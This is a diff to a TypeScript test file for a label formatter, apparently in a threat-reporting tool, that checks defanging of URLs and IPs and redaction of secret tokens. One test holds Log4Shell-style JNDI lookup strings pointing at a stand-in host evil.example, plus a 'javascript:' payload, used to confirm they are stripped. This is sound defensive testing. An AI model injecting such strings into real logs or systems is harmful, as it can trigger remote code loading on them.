@@ -266,14 +266,32 @@ describe('phrases', () => {
     expect(writer.phrase({ kind: 'zone', at: Date.UTC(2026, 10, 17) })).toBe('Europe/Berlin (UTC+01:00)');
   });
 
-  it('defangs indicators, but not names or code', () => {
+  it('defangs indicators as a whole, and of names and code what a program would follow', () => {
     const role = (kind: 'name' | 'indicator' | 'code'): string =>
       writer.phrase({ kind: 'label', value: 'http://203.0.113.7/a', role: kind });
     expect([role('indicator'), role('name'), role('code')]).toEqual([
       'hxxp://203[.]0[.]113[.]7/a',
-      'http://203.0.113.7/a',
-      'http://203.0.113.7/a',
+      'hxxp://203[.]0[.]113[.]7/a',
+      'hxxp://203[.]0[.]113[.]7/a',
     ]);
+    expect(writer.label('shop.acme.example', 'name')).toBe('shop.acme.example');
+    expect(writer.label('/index.php?v=1.2', 'code')).toBe('/index.php?v=1.2');
+  });
+
+  it('leaves nothing in a name that a ticket system, a log or a mail gateway would run', () => {
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's language
+    const rule = '${jndi:ldap://evil.example/a} $%7Bjndi:dns://evil.example} javascript:alert(1)';
+    for (const role of ['name', 'code', 'indicator'] as const) {
+      const shown = writer.label(rule, role);
+      expect(shown).not.toMatch(/\$\{|jndi:|ldap:|javascript:|evil\.example/);
+      expect(writer.label(shown, role)).toBe(shown);
+    }
+    expect(writer.label('Data: file: 5 lines', 'name')).toBe('Data: file: 5 lines');
+  });
+
+  it('leaves the secrets of users out of every label', () => {
+    expect(writer.label('/pay?token=s3cr3t&page=2', 'code')).toBe('/pay?token=[redacted]&page=2');
+    expect(writer.label('x-api-key: 1', 'name')).toBe('x-api-key: 1');
   });
 
   it('shows a look-alike host for what it is', () => {
